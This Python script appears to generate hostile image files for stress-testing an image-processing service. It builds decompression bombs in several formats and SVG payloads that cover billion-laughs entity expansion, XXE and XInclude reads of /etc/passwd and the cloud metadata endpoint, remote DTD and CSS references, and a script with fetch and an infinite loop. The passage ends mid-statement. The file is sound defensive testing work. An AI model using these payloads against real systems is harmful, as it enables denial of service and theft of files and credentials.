#!/usr/bin/env python3
"""Write hostile image files for the imgforge stress test.

    hostile_images.py OUTDIR [--seed N] [--per-format K]

Writes every file into OUTDIR and prints one JSON line per file:
    {"file": "<name>", "kind": "<kind>", "format": "<format>"}

kind is one of:
    seed         small valid image (64x48, gradient + noise), made with `vips`
    truncated    a seed cut at an offset (0 bytes, 1 byte, header-only,
                 last byte missing, spread mid-file offsets)
    bitflip      a seed with 1-16 random bits flipped, either in the header
                 (after the magic) or anywhere past the first 16 bytes
    bomb         decompression / work-amplification bombs (hand-written)
    hostile-svg  SVGs with entity expansion, external entities/references,
                 scripts, huge sizes, deep nesting, filters, gzip bombs
    wrong-magic  content that is not a supported web image format, or a
                 valid image whose file extension lies

format is the real content format (the seed's format for truncated/bitflip).
Output is deterministic for a given --seed (same bytes on every run).
Python 3.11 standard library plus the `vips` CLI (libvips-tools); nothing else.
"""

import argparse
import json
import os
import random
import shutil
import struct
import subprocess
import sys
import tempfile
import zlib

SEED_W, SEED_H = 64, 48

# --------------------------------------------------------------------------
# small helpers


def run_vips(*args):
    subprocess.run(["vips", *args], check=True,
                   stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)


def try_vips(*args):
    try:
        run_vips(*args)
        return True, ""
    except (subprocess.CalledProcessError, FileNotFoundError) as e:
        msg = getattr(e, "stderr", b"") or b""
        return False, msg.decode(errors="replace").strip() or str(e)


class Emitter:
    def __init__(self, outdir):
        self.outdir = outdir
        self.names = set()
        self.notes = []

    def write(self, name, data, kind, fmt):
        if name in self.names:
            raise SystemExit(f"duplicate output name {name}")
        self.names.add(name)
        with open(os.path.join(self.outdir, name), "wb") as f:
            f.write(data)
        print(json.dumps({"file": name, "kind": kind, "format": fmt}),
              flush=True)

    def note(self, msg):
        self.notes.append(msg)
        print(f"note: {msg}", file=sys.stderr)


def zlib_zeros(n, level=9, segment=16 << 20):
    """zlib stream of n zero bytes, built from one reused deflate segment.

    A raw-deflate segment of `segment` zeros ending in a full flush is
    byte-aligned and self-contained, so the same bytes can be repeated; the
    tail is a final block; the Adler-32 of n zeros is (n mod 65521) << 16 | 1.
    """
    parts = [b"\x78\xda"]
    full, rest = divmod(n, segment)
    if full:
        c = zlib.compressobj(level, zlib.DEFLATED, -15)
        seg = c.compress(bytes(segment)) + c.flush(zlib.Z_FULL_FLUSH)
        parts.append(seg * full)
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    parts.append(c.compress(bytes(rest)) + c.flush(zlib.Z_FINISH))
    parts.append(struct.pack(">I", ((n % 65521) << 16) | 1))
    return b"".join(parts)


# --------------------------------------------------------------------------
# PNG


def png_chunk(ctype, data):
    return (struct.pack(">I", len(data)) + ctype + data
            + struct.pack(">I", zlib.crc32(ctype + data) & 0xFFFFFFFF))


def png_file(width, height, depth, colour, chunks_before_idat, idat,
             idat_split=1 << 20):
    out = [b"\x89PNG\r\n\x1a\n",
           png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth,
                                          colour, 0, 0, 0))]
    out += chunks_before_idat
    for i in range(0, max(len(idat), 1), idat_split):
        out.append(png_chunk(b"IDAT", idat[i:i + idat_split]))
    out.append(png_chunk(b"IEND", b""))
    return b"".join(out)


def png_grey(width, height, pixel_fn):
    raw = bytearray()
    for y in range(height):
        raw.append(0)
        raw += bytes(pixel_fn(x, y) for x in range(width))
    return zlib.compress(bytes(raw), 9)


# --------------------------------------------------------------------------
# GIF


def gif_lzw(indices, min_size):
    """GIF LZW data stream (sub-blocked, with terminator).

    Every pixel is sent as a literal code and a clear code is sent often
    enough that the decoder's table never makes the code size grow, so the
    code width stays min_size + 1 bits (valid, simple, not compact).
    """
    clear = 1 << min_size
    eoi = clear + 1
    width = min_size + 1
    per_clear = max(1, (1 << width) - clear - 4)
    acc = nbits = 0
    out = bytearray()

    def emit(code):
        nonlocal acc, nbits
        acc |= code << nbits
        nbits += width
        while nbits >= 8:
            out.append(acc & 0xFF)
            acc >>= 8
            nbits -= 8

    for i, v in enumerate(indices):
        if i % per_clear == 0:
            emit(clear)
        emit(v)
    emit(eoi)
    if nbits:
        out.append(acc & 0xFF)
    blocks = bytearray([min_size])
    for i in range(0, len(out), 255):
        part = out[i:i + 255]
        blocks.append(len(part))
        blocks += part
    blocks.append(0)
    return bytes(blocks)


def gif_header(width, height, palette, loop=True):
    n = len(palette)
    bits = max(1, (n - 1).bit_length())
    pal = bytearray()
    for i in range(1 << bits):
        pal += bytes(palette[i] if i < n else (0, 0, 0))
    out = b"GIF89a" + struct.pack("<HHBBB", width, height,
                                  0x80 | 0x70 | (bits - 1), 0, 0) + bytes(pal)
    if loop:
        out += b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    return out


def gif_frame(x, y, w, h, indices, min_size, delay_cs=10, disposal=1):
    gce = b"\x21\xf9\x04" + bytes([disposal << 2]) + struct.pack(
        "<H", delay_cs) + b"\x00\x00"
    desc = b"\x2c" + struct.pack("<HHHHB", x, y, w, h, 0)
    return gce + desc + gif_lzw(indices, min_size)


# --------------------------------------------------------------------------
# WebP (RIFF)


def riff_chunk(fourcc, data):
    out = fourcc + struct.pack("<I", len(data)) + data
    if len(data) & 1:
        out += b"\x00"
    return out


def riff_webp(chunks):
    body = b"WEBP" + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


class BitsLSB:
    def __init__(self):
        self.acc = 0
        self.n = 0

    def put(self, value, nbits):
        self.acc |= (value & ((1 << nbits) - 1)) << self.n
        self.n += nbits

    def bytes(self):
        return self.acc.to_bytes((self.n + 7) // 8, "little")


def vp8l_solid(width, height, argb=(255, 0, 0, 0)):
    """A VP8L bitstream for a single-colour image of any size.

    No transforms, no colour cache, no meta prefix codes, and five "simple"
    prefix codes with one symbol each, so every pixel costs zero bits: the
    stream is 9 bytes whatever the dimensions (max 16384x16384).
    """
    a, r, g, b = argb
    bits = BitsLSB()
    bits.put(width - 1, 14)
    bits.put(height - 1, 14)
    bits.put(1 if a != 255 else 0, 1)  # alpha_is_used hint
    bits.put(0, 3)  # version
    bits.put(0, 1)  # no transform
    bits.put(0, 1)  # no colour cache
    bits.put(0, 1)  # no meta prefix codes
    for sym in (g, r, b, a, 0):  # green, red, blue, alpha, distance
        bits.put(1, 1)  # simple code
        bits.put(0, 1)  # one symbol
        if sym < 2:
            bits.put(0, 1)
            bits.put(sym, 1)
        else:
            bits.put(1, 1)
            bits.put(sym, 8)
    return b"\x2f" + bits.bytes()


def vp8x_chunk(flags, cw, ch):
    return riff_chunk(b"VP8X", bytes([flags, 0, 0, 0])
                      + (cw - 1).to_bytes(3, "little")
                      + (ch - 1).to_bytes(3, "little"))


# --------------------------------------------------------------------------
# JPEG scan bomb (hand-written progressive JPEG)


class BitsMSBStuffed:
    """MSB-first bit writer with JPEG 0xFF byte stuffing."""

    def __init__(self):
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def put(self, value, nbits):
        for i in range(nbits - 1, -1, -1):
            self.acc = (self.acc << 1) | ((value >> i) & 1)
            self.n += 1
            if self.n == 8:
                self._byte()

    def _byte(self):
        self.out.append(self.acc)
        if self.acc == 0xFF:
            self.out.append(0)
        self.acc = 0
        self.n = 0

    def flush(self):
        if self.n:
            self.put((1 << (8 - self.n)) - 1, 8 - self.n)  # pad with 1s
        return bytes(self.out)


def jpeg_segment(marker, payload):
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg_eob_scan(nblocks):
    """Entropy data for an AC scan where every block is empty: EOB runs.

    AC table: 15 symbols EOB0..EOB14 (0x00..0xE0), all 4-bit codes, so the
    code of EOBr is r. One EOB14 covers up to 32767 blocks.
    """
    w = BitsMSBStuffed()
    left = nblocks
    while left:
        run = min(left, 32767)
        r = run.bit_length() - 1
        w.put(r, 4)
        if r:
            w.put(run - (1 << r), r)
        left -= run
    return w.flush()


def jpeg_scan_bomb(width, height, ncomp, repeat_scans=0):
    """Progressive JPEG with very many scans that each touch every block.

    DC: one first scan, every DC difference 0 (1 bit per block).
    AC: for every component and every coefficient k=1..63 a spectral band
    [k,k] sent with successive approximation Al=13,12,...,0 (14 scans), all
    blocks coded as EOB runs, i.e. ~25 bytes per scan that make the decoder
    walk the whole coefficient buffer. A legal progression: 882 scans per
    component. repeat_scans > 0 appends that many more [1,63] refinement
    scans after the legal ones (an illegal progression: decoders warn).
    """
    bw, bh = (width + 7) // 8, (height + 7) // 8
    nblocks = bw * bh
    out = bytearray(b"\xff\xd8")
    out += jpeg_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
    out += jpeg_segment(0xDB, b"\x00" + bytes([16] * 64))
    comps = b"".join(bytes([i + 1, 0x11, 0]) for i in range(ncomp))
    out += jpeg_segment(0xC2, struct.pack(">BHHB", 8, height, width, ncomp)
                        + comps)
    dc_counts = bytes([1] + [0] * 15)
    ac_counts = bytes([0, 0, 0, 15] + [0] * 12)
    out += jpeg_segment(0xC4, b"\x00" + dc_counts + b"\x00"
                        + b"\x10" + ac_counts
                        + bytes(r << 4 for r in range(15)))

    def sos(comp_ids, ss, se, ah, al):
        p = bytes([len(comp_ids)])
        for c in comp_ids:
            p += bytes([c, 0x00])
        return jpeg_segment(0xDA, p + bytes([ss, se, (ah << 4) | al]))

    # DC first scan, interleaved, every block: DC code '0' (category 0).
    out += sos(range(1, ncomp + 1), 0, 0, 0, 0)
    w = BitsMSBStuffed()
    for _ in range(nblocks * ncomp):
        w.put(0, 1)
    out += w.flush()
    data = jpeg_eob_scan(nblocks)
    for c in range(1, ncomp + 1):
        for k in range(1, 64):
            out += sos([c], k, k, 0, 13) + data
            for al in range(12, -1, -1):
                out += sos([c], k, k, al + 1, al) + data
    for i in range(repeat_scans):
        out += sos([1 + i % ncomp], 1, 63, 1, 0) + data
    out += b"\xff\xd9"
    return bytes(out)


# --------------------------------------------------------------------------
# TIFF


def tiff_strip_bomb(width, height, rows_per_strip):
    """Little-endian TIFF, 8-bit grey, deflate; every StripOffsets entry
    points at the same compressed strip of zeros."""
    nstrips = (height + rows_per_strip - 1) // rows_per_strip
    strip = zlib.compress(bytes(width * rows_per_strip), 9)
    entries = [
        (256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8),
        (259, 3, 1, 8), (262, 3, 1, 1), (273, 4, nstrips, None),
        (277, 3, 1, 1), (278, 4, 1, rows_per_strip),
        (279, 4, nstrips, None), (284, 3, 1, 1),
    ]
    ifd_off = 8
    ifd_len = 2 + 12 * len(entries) + 4
    offsets_off = ifd_off + ifd_len
    counts_off = offsets_off + 4 * nstrips
    strip_off = counts_off + 4 * nstrips
    ifd = struct.pack("<H", len(entries))
    for tag, typ, count, value in entries:
        if tag == 273:
            value = offsets_off
        elif tag == 279:
            value = counts_off
        if typ == 3 and count == 1:
            ifd += struct.pack("<HHIHH", tag, typ, count, value, 0)
        else:
            ifd += struct.pack("<HHII", tag, typ, count, value)
    ifd += struct.pack("<I", 0)
    return (b"II*\x00" + struct.pack("<I", ifd_off) + ifd
            + struct.pack("<I", strip_off) * nstrips
            + struct.pack("<I", len(strip)) * nstrips + strip)


# --------------------------------------------------------------------------
# seeds


def seed_pixels(rng, w, h, shift=0):
    px = bytearray()
    for y in range(h):
        for x in range(w):
            n = rng.randrange(-24, 25)
            r = (x * 255 // (w - 1) + shift) % 256
            g = y * 255 // (h - 1)
            b = max(0, min(255, 128 + n + ((x ^ y) & 8) * 6))
            px += bytes((r, g, b))
    return px


def write_ppm(path, w, h, px, maxval=255):
    with open(path, "wb") as f:
        f.write(b"P6\n%d %d\n%d\n" % (w, h, maxval))
        if maxval == 255:
            f.write(px)
        else:
            f.write(b"".join(struct.pack(">H", v * 257) for v in px))


def handmade_anim_gif(rng, w, h, nframes=4):
    levels = (0, 51, 102, 153, 204, 255)
    palette = [(r, g, b) for r in levels for g in levels for b in levels]
    out = bytearray(gif_header(w, h, palette + [(0, 0, 0)] * 40))
    for f in range(nframes):
        px = seed_pixels(rng, w, h, shift=f * 64)
        idx = [(px[i] * 6 // 256) * 36 + (px[i + 1] * 6 // 256) * 6
               + px[i + 2] * 6 // 256 for i in range(0, len(px), 3)]
        out += gif_frame(0, 0, w, h, idx, 8, delay_cs=20, disposal=1)
    out += b"\x3b"
    return bytes(out)


SEED_SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48" viewBox="0 0 64 48">
  <defs>
    <linearGradient id="g" x1="0" y1="0" x2="1" y2="1">
      <stop offset="0" stop-color="#d02020"/>
      <stop offset="1" stop-color="#2040d0"/>
    </linearGradient>
  </defs>
  <rect width="64" height="48" fill="url(#g)"/>
  <circle cx="32" cy="24" r="14" fill="#ffffff" fill-opacity="0.6"/>
  <text x="6" y="44" font-size="9" fill="#000">seed</text>
</svg>
"""

# name, format, extension, how to make it from the tmp files
SEEDS = [
    ("jpeg", "jpeg", "jpg", ("rgb.ppm", "Q=85,strip")),
    ("jpeg-progressive", "jpeg", "jpg",
     ("rgb.ppm", "Q=85,interlace,strip")),
    ("png8", "png", "png", ("rgb.ppm", "compression=6")),
    ("png16", "png", "png", ("rgb16.ppm", "compression=6")),
    ("webp-lossy", "webp", "webp", ("rgb.ppm", "Q=75,strip")),
    ("webp-lossless", "webp", "webp", ("rgb.ppm", "lossless,strip")),
    ("webp-animated", "webp", "webp", ("anim.gif[n=-1]", "Q=75")),
    ("gif-animated", "gif", "gif", ("anim.gif[n=-1]", "")),
    ("tiff", "tiff", "tif", ("rgb.ppm", "compression=lzw")),
    ("avif", "avif", "avif", ("rgb.ppm", "compression=av1,Q=60")),
    ("heic", "heic", "heic", ("rgb.ppm", "compression=hevc,Q=60")),
    ("svg", "svg", "svg", None),
]


def make_seeds(em, rng, tmp):
    px = seed_pixels(rng, SEED_W, SEED_H)
    write_ppm(os.path.join(tmp, "rgb.ppm"), SEED_W, SEED_H, px)
    write_ppm(os.path.join(tmp, "rgb16.ppm"), SEED_W, SEED_H, px, 65535)
    with open(os.path.join(tmp, "anim.gif"), "wb") as f:
        f.write(handmade_anim_gif(rng, SEED_W, SEED_H))
    seeds = []
    for name, fmt, ext, how in SEEDS:
        if how is None:
            data = SEED_SVG
        else:
            src, opts = how
            dst = os.path.join(tmp, f"seed-{name}.{ext}")
            ok, err = try_vips("copy", os.path.join(tmp, src),
                               f"{dst}[{opts}]" if opts else dst)
            if not ok or not os.path.exists(dst) or not os.path.getsize(dst):
                em.note(f"seed {name} skipped: vips could not write it: {err}")
                continue
            with open(dst, "rb") as f:
                data = f.read()
        fname = f"seed-{name}.{ext}"
        em.write(fname, data, "seed", fmt)
        seeds.append((name, fmt, ext, data))
    return seeds


# --------------------------------------------------------------------------
# header-region detection per format: (magic_len, header_end)


def jpeg_header_end(d):
    i = 2
    while i + 4 <= len(d):
        if d[i] != 0xFF:
            break
        m = d[i + 1]
        seglen = struct.unpack(">H", d[i + 2:i + 4])[0]
        if m == 0xDA:
            return i + 2 + seglen
        i += 2 + seglen
    return min(len(d), 20)


def png_header_end(d):
    i = 8
    while i + 8 <= len(d):
        n = struct.unpack(">I", d[i:i + 4])[0]
        if d[i + 4:i + 8] == b"IDAT":
            return i + 8
        i += 12 + n
    return 33


def gif_header_end(d):
    i = 13
    if d[10] & 0x80:
        i += 3 << ((d[10] & 7) + 1)
    while i < len(d):
        if d[i] == 0x21:  # extension: skip sub-blocks
            i += 2
            while i < len(d) and d[i]:
                i += d[i] + 1
            i += 1
        elif d[i] == 0x2C:
            flags = d[i + 9]
            i += 10
            if flags & 0x80:
                i += 3 << ((flags & 7) + 1)
            return i + 1  # LZW minimum code size
        else:
            break
    return 13


def webp_header_end(d):
    i = 12
    while i + 8 <= len(d):
        cc = d[i:i + 4]
        n = struct.unpack("<I", d[i + 4:i + 8])[0]
        if cc == b"VP8 ":
            return i + 8 + 10
        if cc == b"VP8L":
            return i + 8 + 5
        if cc == b"ANMF":
            i += 8 + 16
            continue
        i += 8 + n + (n & 1)
    return 30


def isobmff_header_end(d):
    i = 0
    while i + 8 <= len(d):
        n = struct.unpack(">I", d[i:i + 4])[0]
        if d[i + 4:i + 8] == b"mdat" or n < 8:
            return i + 8
        i += n
    return min(len(d), 32)


def header_region(fmt, d):
    if fmt == "jpeg":
        return 2, jpeg_header_end(d)
    if fmt == "png":
        return 8, png_header_end(d)
    if fmt == "gif":
        return 6, gif_header_end(d)
    if fmt == "webp":
        return 16, webp_header_end(d)
    if fmt == "tiff":
        return 4, 8
    if fmt in ("avif", "heic"):
        return 12, isobmff_header_end(d)
    if fmt == "svg":
        start = d.find(b"<svg")
        return 0, d.find(b">", start) + 1 if start >= 0 else 64
    return 0, min(len(d), 16)


def make_mutations(em, rng, seeds, k):
    for name, fmt, ext, data in seeds:
        size = len(data)
        magic_len, hdr_end = header_region(fmt, data)
        hdr_end = max(2, min(hdr_end, size - 1))
        offsets = [0, 1, hdr_end, size - 1]
        mids = max(0, k - len(offsets))
        for j in range(mids):
            offsets.append(hdr_end + (size - hdr_end) * (j + 1) // (mids + 1))
        seen = set()
        for off in offsets[:k]:
            if off in seen or off >= size:
                continue
            seen.add(off)
            em.write(f"trunc-{name}-{off}.{ext}", data[:off], "truncated",
                     fmt)
        for i in range(k):
            where = "header" if i % 2 else "body"
            lo, hi = (magic_len, hdr_end) if where == "header" else (
                min(16, size - 1), size)
            if hi - lo < 1:
                where, lo, hi = "body", min(16, size - 1), size
            nbits = min(rng.randint(1, 16), (hi - lo) * 8)
            buf = bytearray(data)
            for bit in rng.sample(range(lo * 8, hi * 8), nbits):
                buf[bit // 8] ^= 1 << (bit % 8)
            em.write(f"flip-{name}-{i}-{where}-{nbits}b.{ext}", bytes(buf),
                     "bitflip", fmt)


# --------------------------------------------------------------------------
# bombs


def make_bombs(em):
    # PNG 50000x50000 8-bit grey; IDAT = the first 100 rows of zeros only.
    w = h = 50000
    rows = 100
    em.write("bomb-png-50000x50000-partial.png",
             png_file(w, h, 8, 0, [], zlib.compress(bytes((w + 1) * rows), 9)),
             "bomb", "png")
    # Same header with the whole 2.5 GB zero image as a valid zlib stream.
    em.write("bomb-png-50000x50000-full.png",
             png_file(w, h, 8, 0, [], zlib_zeros((w + 1) * h)), "bomb", "png")

    # PNG with huge compressed-text / ICC ratios on a tiny valid image.
    small = png_grey(16, 16, lambda x, y: (x * 16) ^ (y * 16))
    ztxt = b"Comment\x00\x00" + zlib_zeros(256 << 20)
    em.write("bomb-png-ztxt-256MiB.png",
             png_file(16, 16, 8, 0, [png_chunk(b"zTXt", ztxt)], small),
             "bomb", "png")
    iccp = b"icc\x00\x00" + zlib_zeros(128 << 20)
    em.write("bomb-png-iccp-128MiB.png",
             png_file(16, 16, 8, 0, [png_chunk(b"iCCP", iccp)], small),
             "bomb", "png")
    itxt = (b"XML:com.adobe.xmp\x00\x01\x00\x00\x00"
            + zlib_zeros(256 << 20))
    em.write("bomb-png-itxt-256MiB.png",
             png_file(16, 16, 8, 0, [png_chunk(b"iTXt", itxt)], small),
             "bomb", "png")

    # GIF: 10,000 1x1 frames, each with a graphic control extension, on a
    # 1024x1024 logical screen (each frame composites to a 4 MiB canvas).
    pal = [(0, 0, 0), (255, 255, 255), (255, 0, 0), (0, 0, 255)]
    out = bytearray(gif_header(1024, 1024, pal))
    for i in range(10000):
        out += gif_frame(i % 1024, (i // 1024) * 97 % 1024, 1, 1, [i % 4], 2,
                         delay_cs=1)
    out += b"\x3b"
    em.write("bomb-gif-10000-frames.gif", bytes(out), "bomb", "gif")
    # GIF: 65535x65535 logical screen, one 1x1 frame in the far corner (a
    # frame at 0,0 lets some decoders shrink the bogus screen to the frame).
    out = gif_header(65535, 65535, pal, loop=False) + gif_frame(
        65534, 65534, 1, 1, [1], 2) + b"\x3b"
    em.write("bomb-gif-65535x65535-canvas.gif", out, "bomb", "gif")

    # WebP: still VP8X canvas 16383x16383 with a VP8L frame of the same
    # size whose pixels cost 0 bits (decodes to 1 GiB RGBA from ~60 bytes).
    big = 16383
    em.write("bomb-webp-16383x16383-vp8l.webp",
             riff_webp([vp8x_chunk(0, big, big),
                        riff_chunk(b"VP8L", vp8l_solid(big, big))]),
             "bomb", "webp")
    # WebP: animated, ANIM canvas 16383x16383, 1000 tiny 1x1 VP8L frames.
    frames = []
    tiny = riff_chunk(b"VP8L", vp8l_solid(1, 1, (255, 255, 0, 0)))
    for i in range(1000):
        x, y = (i * 131) % big, (i * 71) % big
        hdr = ((x // 2).to_bytes(3, "little") + (y // 2).to_bytes(3, "little")
               + (0).to_bytes(3, "little") + (0).to_bytes(3, "little")
               + (20).to_bytes(3, "little") + b"\x00")
        frames.append(riff_chunk(b"ANMF", hdr + tiny))
    em.write("bomb-webp-16383x16383-anim-1000-frames.webp",
             riff_webp([vp8x_chunk(0x02 | 0x10, big, big),
                        riff_chunk(b"ANIM", b"\x00\x00\x00\x00\x00\x00")]
                       + frames), "bomb", "webp")

    # JPEG scan bombs.
    em.write("bomb-jpeg-scans-2647-4096x4096.jpg",
             jpeg_scan_bomb(4096, 4096, 3), "bomb", "jpeg")
    em.write("bomb-jpeg-scans-repeat-1024x1024.jpg",
             jpeg_scan_bomb(1024, 1024, 1, repeat_scans=20000), "bomb", "jpeg")

    # TIFF 100000x100000 8-bit grey, 1000 deflate strips sharing one blob.
    em.write("bomb-tiff-100000x100000.tif",
             tiff_strip_bomb(100000, 100000, 100), "bomb", "tiff")


# --------------------------------------------------------------------------
# hostile SVGs


def make_svgs(em):
    svg_open = ('<svg xmlns="http://www.w3.org/2000/svg" '
                'xmlns:xlink="http://www.w3.org/1999/xlink" '
                'width="64" height="48">')
    files = {}
    lol = ['<!ENTITY lol0 "lol">']
    for i in range(1, 11):
        lol.append(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">')
    files["billion-laughs"] = (
        '<?xml version="1.0"?>\n<!DOCTYPE svg [\n' + "\n".join(lol)
        + "\n]>\n" + svg_open + '<text x="0" y="20">&lol10;</text></svg>\n')
    files["xxe-file"] = (
        '<?xml version="1.0"?>\n<!DOCTYPE svg [\n'
        '<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n' + svg_open
        + '<text x="0" y="20">&xxe;</text></svg>\n')
    files["xxe-http"] = (
        '<?xml version="1.0"?>\n<!DOCTYPE svg [\n'
        '<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">\n'
        ']>\n' + svg_open + '<text x="0" y="20">&xxe;</text></svg>\n')
    files["xxe-parameter-entity"] = (
        '<?xml version="1.0"?>\n<!DOCTYPE svg [\n'
        '<!ENTITY % remote SYSTEM "http://127.0.0.1:1/evil.dtd">\n%remote;\n'
        ']>\n' + svg_open + '<rect width="8" height="8"/></svg>\n')
    files["image-metadata-href"] = (
        svg_open + '<image href="http://169.254.169.254/latest/meta-data" '
        'width="64" height="48"/></svg>\n')
    files["image-xlink-file"] = (
        svg_open + '<image xlink:href="file:///etc/passwd" '
        'width="64" height="48"/></svg>\n')
    files["image-xlink-file-png"] = (
        svg_open + '<image xlink:href="file:///usr/share/pixmaps/debian-logo.png" '
        'width="64" height="48"/></svg>\n')
    files["use-remote"] = (
        svg_open + '<use href="http://127.0.0.1:1/x#a"/>'
        '<use xlink:href="http://127.0.0.1:1/y#b"/></svg>\n')
    files["css-import"] = (
        svg_open + '<style>@import url("http://127.0.0.1:1/x.css");'
        ' rect { fill: url("http://127.0.0.1:1/p.svg#p"); }</style>'
        '<rect width="64" height="48"/></svg>\n')
    files["xinclude"] = (
        '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:xi="http://www.w3.org/2001/XInclude" width="64" height="48">'
        '<text x="0" y="20"><xi:include href="file:///etc/passwd" '
        'parse="text"/></text></svg>\n')
    files["script"] = (
        svg_open + '<script type="text/javascript">'
        'fetch("http://127.0.0.1:1/x"); while (true) {}</script>'
        '<rect width="64" height="48" onload="alert(1)"/></svg>\n')
    files["huge-size"] = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="100000000" '
        'height="100000000" viewBox="0 0 10 10"><rect width="10" height="10" '
        'fill="red"/></svg>\n')
    depth = 10000
    files["deep-nesting-10000"] = (
        svg_open + "<g>" * depth + '<rect width="8" height="8"/>'
        + "</g>" * depth + "</svg>\n")
    files["filter-blur-8000"] = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="8000" height="8000">'
        '<filter id="f" x="0" y="0" width="1" height="1">'
        '<feGaussianBlur stdDeviation="4000"/><feMorphology radius="2000"/>'
        '</filter><rect width="8000" height="8000" fill="red" '
        'filter="url(#f)"/></svg>\n')
    uses = [svg_open, '<defs><rect id="r0" width="1" height="1"/>']
    for i in range(1, 9):
        uses.append(f'<g id="r{i}">' + f'<use href="#r{i - 1}"/>' * 10
                    + "</g>")
    uses.append('</defs><use href="#r8"/></svg>\n')
    files["use-fanout-1e8"] = "".join(uses)
    for name, text in files.items():
        em.write(f"svg-{name}.svg", text.encode(), "hostile-svg", "svg")
    # gzip-compressed SVG whose inflated size is 256 MiB (mostly a comment).
    c = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip wrapper, mtime 0
    parts = [c.compress(b'<svg xmlns="http://www.w3.org/2000/svg" '
                        b'width="64" height="48"><!--')]
    spaces = b" " * (1 << 20)
    for _ in range(256):
        parts.append(c.compress(spaces))
    parts.append(c.compress(b'--><rect width="64" height="48"/></svg>\n'))
    parts.append(c.flush())
    em.write("svg-gzip-bomb-256MiB.svgz", b"".join(parts), "hostile-svg",
             "svgz")


# --------------------------------------------------------------------------
# wrong magic / wrong extension / non-web formats


def minimal_pdf():
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 64 48] "
        b"/Contents 4 0 R >>",
    ]
    stream = b"1 0 0 rg 0 0 64 48 re f"
    objs.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream
                + b"\nendstream")
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += (b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objs) + 1, xref))
    return bytes(out)


def bmp_24(w, h):
    row = (w * 3 + 3) & ~3
    pixels = bytearray()
    for y in range(h):
        r = bytearray()
        for x in range(w):
            r += bytes((x * 30 % 256, y * 30 % 256, 200))
        pixels += r + bytes(row - len(r))
    size = 54 + len(pixels)
    return (b"BM" + struct.pack("<IHHI", size, 0, 0, 54)
            + struct.pack("<IiiHHIIiiII", 40, w, h, 1, 24, 0, len(pixels),
                          2835, 2835, 0, 0) + bytes(pixels))


def make_wrong_magic(em, tmp, seeds):
    w = em.write
    w("wrongmagic-pdf.jpg", minimal_pdf(), "wrong-magic", "pdf")
    # JPEG 2000 / JPEG XL: real small files from vips, and magic-only headers.
    src = os.path.join(tmp, "rgb.ppm")
    for fmt, ext in (("jp2", "jp2"), ("jxl", "jxl"), ("fits", "fits"),
                     ("hdr", "hdr"), ("vips", "v")):
        dst = os.path.join(tmp, f"real.{ext}")
        ok, err = try_vips("copy", src, dst)
        if ok and os.path.exists(dst):
            with open(dst, "rb") as f:
                data = f.read()
            w(f"wrongmagic-{fmt}.jpg", data, "wrong-magic", fmt)
            if fmt == "vips":
                # Same header declaring 100000x100000, pixel data missing.
                le = data[:4] == b"\xb6\xa6\xf2\x08"
                fmt_i = "<ii" if le else ">ii"
                huge = data[:4] + struct.pack(fmt_i, 100000, 100000) + data[12:64]
                w("wrongmagic-vips-100000x100000-no-data.jpg", huge,
                  "wrong-magic", "vips")
        else:
            em.note(f"real {fmt} skipped: {err}")
    w("wrongmagic-jp2-signature-only.jpg",
      b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00\x00\x00\x14ftypjp2 "
      + b"\x00\x00\x00\x00jp2 ", "wrong-magic", "jp2")
    w("wrongmagic-j2k-codestream-header.jpg",
      b"\xff\x4f\xff\x51\x00\x29\x00\x00" + struct.pack(">IIII", 64, 48, 0, 0)
      + bytes(16), "wrong-magic", "j2k")
    w("wrongmagic-jxl-codestream-header.jpg", b"\xff\x0a\xfa\x1f\x00\x00",
      "wrong-magic", "jxl")
    w("wrongmagic-jxl-container-header.jpg",
      b"\x00\x00\x00\x0cJXL \r\n\x87\n\x00\x00\x00\x14ftypjxl "
      b"\x00\x00\x00\x00jxl ", "wrong-magic", "jxl")
    # ImageMagick-only / non-web raster formats.
    w("wrongmagic-ppm.jpg", b"P6\n4 4\n255\n" + bytes(range(48)),
      "wrong-magic", "ppm")
    w("wrongmagic-pgm-ascii.jpg", b"P2\n4 2\n255\n0 64 128 255\n1 2 3 4\n",
      "wrong-magic", "pgm")
    w("wrongmagic-ppm-huge.jpg", b"P6\n100000 100000\n255\n" + bytes(64),
      "wrong-magic", "ppm")
    w("wrongmagic-xpm.jpg",
      b'/* XPM */\nstatic char *x[] = {\n"4 4 2 1",\n"a c #FF0000",\n'
      b'"b c #0000FF",\n"abab",\n"baba",\n"abab",\n"baba"\n};\n',
      "wrong-magic", "xpm")
    w("wrongmagic-bmp.jpg", bmp_24(8, 8), "wrong-magic", "bmp")
    mat = b"MATLAB 5.0 MAT-file, Platform: GLNXA64, Created on: Thu Jan  1 00:00:00 1970"
    mat = mat.ljust(116, b" ") + bytes(8) + struct.pack("<H", 0x0100) + b"IM"
